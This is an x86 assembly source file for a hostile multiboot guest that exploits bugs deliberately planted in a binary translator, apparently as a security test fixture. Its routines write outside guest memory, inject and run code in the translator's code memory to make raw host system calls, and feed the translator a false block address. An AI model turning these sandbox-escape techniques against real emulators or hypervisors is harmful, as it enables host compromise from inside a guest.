/*
 * A hostile guest that makes use of the bugs planted in the translator (planted.c). Letter by letter:
 *
 *   w  writes a byte of the process's, and has it looked at
 *   c  writes its own bytes into code memory, by the address that may be written, and runs them: system
 *      calls on the host; and has the results reported
 *   b  writes behind guest memory          f  writes in front of it
 *   x  writes code memory by the address that may be executed
 *   a  comes back from host code with an address of the process's, which is to be taken for that of a block
 *   d  runs bytes of guest memory, as they are, on the host
 *   o  powers off
 *
 * Multiboot 1: the letters are the last word of the command line.
 */
#include "planted.h"

#define HOSTILE 0x5a0
#define PM1_CNT 0x604
#define SLEEP_S5 0x2000
#define PML4 0x300000
#define PDPT 0x301000
#define PD 0x302000
#define PAGE(field) PLANTED_PAGE + PLANTED_##field

	.code32
	.text
	.globl _start
header:
	.long 0x1badb002, 0x10000, -(0x1badb002 + 0x10000)
	.long header, header, end, end, _start

_start:
	mov 16(%ebx), %esi	/* the command line */
	mov %esi, %edi
1:	lodsb			/* behind its last space */
	cmp $' ', %al
	jne 2f
	mov %esi, %edi
2:	test %al, %al
	jnz 1b
	mov %edi, %esi

	/* The first GiB is mapped where it is. */
	movl $PDPT + 7, PML4
	movl $PD + 7, PDPT
	mov $PD, %edi
	mov $0x87, %eax
	mov $512, %ecx
1:	mov %eax, (%edi)
	add $0x200000, %eax
	add $8, %edi
	loop 1b
	mov $0x20, %eax		/* PAE */
	mov %eax, %cr4
	mov $PML4, %eax
	mov %eax, %cr3
	mov $0xc0000080, %ecx	/* EFER.LME */
	rdmsr
	or $0x100, %eax
	wrmsr
	mov %cr0, %eax
	or $0x80000001, %eax
	mov %eax, %cr0
	lgdt gdt_pointer
	ljmp $8, $start64

	.code64
start64:
	mov $stack, %esp
	mov $HOSTILE, %edx
	mov $'P', %al
	out %al, %dx
next:
	lodsb
	mov $table, %edi
1:	cmpb $0, (%rdi)
	je wait
	cmp %al, (%rdi)
	je 2f
	add $9, %rdi
	jmp 1b
2:	push $next
	jmp *1(%rdi)

table:
	.irp letter, w, c, b, f, x, a, d, o
	.ascii "\letter"
	.quad do_\letter
	.endr
	.byte 0

/* The window shows the host's page at rax from here on, and rdi is rax there. */
aim:
	mov %rax, %rdi
	and $0xfff, %edi
	add $PLANTED_WINDOW, %rdi
	and $-0x1000, %rax
	mov %rax, PAGE(AIM)
	invlpg PLANTED_WINDOW
	mov $0, %dl
	mov %dl, (%rdi)		/* a miss: the entry is made, and this goes where it should */
	ret

do_w:
	mov PAGE(CELL), %rax
	call aim
	movb $PLANTED_BYTE, (%rdi)
	mov $'W', %al
	jmp tell

do_c:
	mov $host_calls, %ebx
	mov $host_calls_end - host_calls, %ecx
	call run
	mov $'R', %al
tell:
	mov $HOSTILE, %edx
	out %al, %dx
	ret

do_a:
	mov $host_lie, %ebx
	mov $host_lie_end - host_lie, %ecx
	/* falls through */
run:	/* ecx bytes at rbx, on the host */
	mov PAGE(CODE_WRITE), %rax
	call aim
1:	mov (%rbx), %al
	mov %al, (%rdi)
	inc %rbx
	inc %rdi
	dec %ecx
	jnz 1b
	mov PAGE(CODE), %rax
go:	/* on the host, at rax */
	push %rsi
	mov $resumed, %ecx
	mov %rcx, PAGE(RESUME)
	mov PAGE(RAM), %rbx
	add $PLANTED_PAGE, %rbx
	push $jump		/* so that it begins a block */
	ret
jump:
	jmp *%rax
resumed:
	pop %rsi
	ret

do_b:
	mov PAGE(RAM_END), %rax
	jmp 1f
do_f:
	mov PAGE(RAM), %rax
	dec %rax
	jmp 1f
do_x:
	mov PAGE(CODE), %rax
1:	call aim
	movb $0xc3, (%rdi)
	ret

do_d:
	mov PAGE(RAM), %rax
	add $host_calls, %rax
	mov %rax, %rcx
	and $-0x1000, %rcx
	mov %rcx, PAGE(AIM)
	jmp go

do_o:
	mov $PM1_CNT, %dx
	mov $SLEEP_S5, %ax
	out %ax, %dx
wait:
	cli
1:	hlt
	jmp 1b

/*
 * These run on the host, rbx: the page there. What the translator has in other registers is left alone, and its ways out
 * of native code are taken.
 */
host_calls:
	lea PLANTED_CALLS(%rbx), %r13
	mov PLANTED_N_CALLS(%rbx), %r12
1:	mov (%r13), %rax
	mov 8(%r13), %rdi
	mov 16(%r13), %rsi
	mov 24(%r13), %rdx
	mov 32(%r13), %r10
	mov 40(%r13), %r8
	mov 48(%r13), %r9
	syscall
	mov %rax, 56(%r13)
	add $PLANTED_CALL_SIZE, %r13
	dec %r12
	jnz 1b
	mov PLANTED_RESUME(%rbx), %r11
	jmp *PLANTED_BACK(%rbx)
host_calls_end:

host_lie:	/* "the block whose head is in the cell is the interpreter's": NATIVE_INTERPRET */
	mov PLANTED_CELL(%rbx), %r10
	shl $3, %r10
	or $5, %r10
	jmp *PLANTED_BACK_WITH(%rbx)
host_lie_end:

	.align 8
gdt:	.quad 0, 0x00af9b000000ffff
gdt_pointer:
	.word 15
	.long gdt
	.align 16
	.skip 256
stack:
end:
